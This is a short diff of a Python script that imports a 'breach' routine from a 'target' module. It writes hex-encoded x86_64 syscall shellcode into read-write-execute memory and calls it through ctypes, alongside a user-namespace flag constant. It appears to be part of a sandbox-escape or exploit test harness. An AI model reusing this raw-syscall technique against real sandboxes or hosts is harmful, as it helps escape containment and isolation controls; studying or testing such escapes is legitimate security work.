@@ -9,7 +9,8 @@ from target import breach
 CODE = bytes.fromhex("4889f8 4889f7 4889d6 4889ca 4d89c2 4d89c8 0f05 c3".replace(" ", ""))
 AT_FDCWD, NEW_USER = -100, 0x10000000
 if os.uname().machine == "x86_64":
-    memory = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
+    protection = mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC
+    memory = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, protection)
     memory.write(CODE)
     address = ctypes.addressof(ctypes.c_char.from_buffer(memory))
     call = ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 6)(address)
